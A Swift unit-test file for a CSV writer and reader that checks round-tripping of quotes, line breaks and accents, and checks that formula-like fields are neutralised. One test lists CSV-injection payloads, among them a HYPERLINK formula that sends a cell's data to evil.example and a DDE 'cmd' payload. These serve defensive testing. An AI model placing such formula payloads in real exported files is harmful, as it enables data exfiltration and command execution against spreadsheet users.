import Testing

@testable import EnlaceInterop

@Suite("CSV text")
struct CSVTextTests {
    @Test("what is written reads back, quotes, commas, line breaks and accents included")
    func roundTrip() throws {
        let rows = [
            ["country", "name", "note"], ["HN", "Policía Nacional, Honduras", "dijo \"sí\"\nluego"],
            ["CO", "", "-12.5"],
        ]
        let text = try CSVText.write(rows)
        #expect(text.hasPrefix("\u{FEFF}country,name,note\r\n"))
        let read = try CSVText.read(text)
        #expect(read.header == rows[0])
        #expect(read.rows == Array(rows.dropFirst()))
    }

    @Test("a field a spreadsheet would run as a formula is written inert")
    func formulas() throws {
        let text = try CSVText.write([["a", "b", "c", "d"], ["=HYPERLINK(\"x\")", "+1", "@SUM(A1)", "-2"]])
        let row = try CSVText.read(text).rows[0]
        #expect(row == ["'=HYPERLINK(\"x\")", "'+1", "'@SUM(A1)", "-2"])
    }

    @Test("every field that starts like a formula is inert unless it is a plain number")
    func formulasBehindNumbers() throws {
        let hostile = [
            "-1+HYPERLINK(\"https://evil.example/?\"&D2,\"x\")", "-2-cmd|' /C calc'!A0", "+1+1", "-.5+A1", "\t=1",
            "\r=1", "@x", "=1", " =1+1", "   @SUM(A1)", "\u{00A0}-1+1", "\u{3000}=1",
        ]
        for field in hostile {
            #expect(CSVText.neutralised(field).hasPrefix("'"), "\(field) is written as it is")
            // The spreadsheet import takes the apostrophe off again.
            #expect(ActivitySpreadsheetReader.unescaped(CSVText.neutralised(field)) == field)
        }
        for plain in ["a = b", " a", "   ", ""] {
            #expect(CSVText.neutralised(plain) == plain, "\(plain) is plain text")
        }
        for number in ["-2", "-12.5", "0.75", "-0.001", "42"] {
            #expect(CSVText.neutralised(number) == number, "\(number) is a number and stays one")
        }
    }

    @Test("a quote followed by a combining mark, white space at a field's ends and repeated marks read back as written")
    func scalarsNotCharacters() throws {
        // Found by the CSV fuzz target: `"` and U+059D are one character, and a writer that looked for quotes
        // character by character left this quote unescaped, so the row read back as something else.
        let rows = [["name", "note"], ["\"\u{59D}\"", "a,b"], ["  padded ", "\u{FEFF}x"], ["\"\u{301}=1+1", "ok"]]
        let read = try CSVText.read(try CSVText.write(rows))
        #expect(read.header == rows[0])
        #expect(read.rows == Array(rows.dropFirst()))
        #expect(try CSVText.read("\u{FEFF}\u{FEFF}a,b\r\n1,2\r\n").header == ["a", "b"])
    }
}
